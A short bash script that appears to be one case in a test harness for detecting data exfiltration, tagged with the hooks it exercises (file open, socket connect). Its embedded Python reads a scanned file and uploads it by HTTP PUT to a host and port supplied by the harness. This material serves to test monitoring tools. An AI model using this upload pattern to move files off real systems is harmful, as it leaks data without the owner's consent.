#!/usr/bin/env bash
# technique: Python's http.client
# hooks: file_open (of the scan), socket_connect
# sink: private-http
# innocent: 600

. attack.sh
python3 - <<'PY'
from attack import *
import http.client

sink = http.client.HTTPConnection(TCP[0], int(os.environ["PORT_HTTP"]), timeout=5)
sink.request("PUT", "/" + os.path.basename(COPY), open(SCAN, "rb"))
sink.getresponse().read()
PY
